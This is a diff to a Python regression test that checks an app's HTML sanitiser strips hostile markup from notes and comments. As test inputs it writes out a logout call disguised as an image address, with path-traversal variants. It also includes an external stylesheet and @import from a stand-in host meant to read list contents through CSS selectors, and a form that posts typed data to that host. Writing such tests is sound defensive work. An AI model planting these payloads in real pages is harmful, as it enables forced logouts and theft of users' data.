@@ -2205,18 +2205,43 @@ class TestCodeInOthersPages(MeldcodeTestCase):
 		user = self.saved("User", SYSTEM_MANAGER, bio="<b>Leerkracht</b> groep 6")
 		self.assertEqual(user.bio, "<b>Leerkracht</b> groep 6")
 
-	def test_a_picture_is_no_call_of_the_site(self):
+	def test_a_note_or_comment_shows_and_does_not_act(self):
 		"""Round 84: a picture whose address was "/api/method/logout" logged out whoever looked at
-		the note. The site's own files and another site's pictures stay pictures."""
+		the note; a comment's stylesheet (rel="stylesheet nofollow") stayed in the reader's desk and
+		read the names in her lists through selectors; a form sent what was typed into it to
+		another site. The site's own files and another site's pictures stay pictures, and text
+		stays text."""
 		self.addCleanup(self.remove_logs_and_notes)
 		calls = ("/api/method/logout", "../../api/method/logout", "/files/../api/method/logout")
 		pictures = ("/files/plein.png", "https://school.example/logo.png")
-		content = "".join(f'<p><img src="{address}"></p>' for address in (*calls, *pictures))
-		stored = self.saved("Note", title="Notitie", content=content).content
-		for address in calls:
-			self.assertNotIn(f'"{address}"', stored)
-		for address in pictures:
-			self.assertIn(f'<img src="{address}">', stored)
+		acting = (
+			'<link rel="stylesheet nofollow" href="https://elders.example/s.css">'
+			'<style>@import "https://elders.example/i.css";</style>'
+			'<form action="https://elders.example/collect"><p>Naam kind <input name="kind"></p></form>'
+		)
+		content = "".join(f'<p><img src="{address}"></p>' for address in (*calls, *pictures)) + acting
+		note = self.saved("Note", title="Notitie", content=content)
+		self.addCleanup(frappe.db.delete, "Comment", {"reference_name": note.name})
+		status, answer = request_as(
+			self.token,
+			"frappe.desk.form.utils.add_comment",
+			"post",
+			reference_doctype="Note",
+			reference_name=note.name,
+			content=content,
+			comment_email=SYSTEM_MANAGER,
+			comment_by="Systeem",
+		)
+		self.assertEqual(status, 200, answer)
+		frappe.db.rollback()
+		for stored in (note.content, frappe.db.get_value("Comment", answer["name"], "content")):
+			for address in calls:
+				self.assertNotIn(f'"{address}"', stored)
+			for address in pictures:
+				self.assertIn(f'<img src="{address}">', stored)
+			for element in ("<link", "<style", "<form", "<input", "elders.example"):
+				self.assertNotIn(element, stored)
+			self.assertIn("Naam kind", stored)
 
 	def test_sent_markup_cut_cased_or_joined_is_refused_as_well(self):
 		"""A method may store the text it was sent changed (upper case, cut to a length, joined to
